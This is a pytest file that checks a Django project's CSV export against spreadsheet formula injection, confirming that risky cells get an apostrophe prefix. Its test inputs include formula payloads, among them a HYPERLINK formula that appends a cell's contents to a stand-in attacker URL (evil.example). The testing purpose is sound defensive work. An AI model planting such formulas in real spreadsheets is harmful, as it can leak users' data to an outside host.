"""CSV formula injection: every export cell that a spreadsheet would run is neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from lagesbild.lib.spreadsheets import cell_safe, csv_writer


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example","x")', "+46 70", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(value: str) -> None:
    assert cell_safe(value) == "'" + value


def test_it_keeps_ordinary_text_and_numbers() -> None:
    assert cell_safe("Inloggningen = långsam") == "Inloggningen = långsam"
    assert cell_safe(-5) == -5
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", "ok", 3])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "ok", "3"]


def test_the_experiences_export_neutralises_answers(db: None, tmp_path: Path) -> None:
    from lagesbild.experiences.tests.helpers import make_collection, make_source

    collection = make_collection()
    make_source(collection, text='=HYPERLINK("https://evil.example?"&A1;"Klicka")', title="@möte")
    output = tmp_path / "export.csv"
    call_command(
        "experiences_export", collection=collection.slug, output=str(output), stdout=io.StringIO()
    )
    rows = list(csv.reader(output.open(encoding="utf-8-sig")))
    assert rows[1][-1].startswith("'=HYPERLINK")
    assert rows[1][-2] == "'@möte"
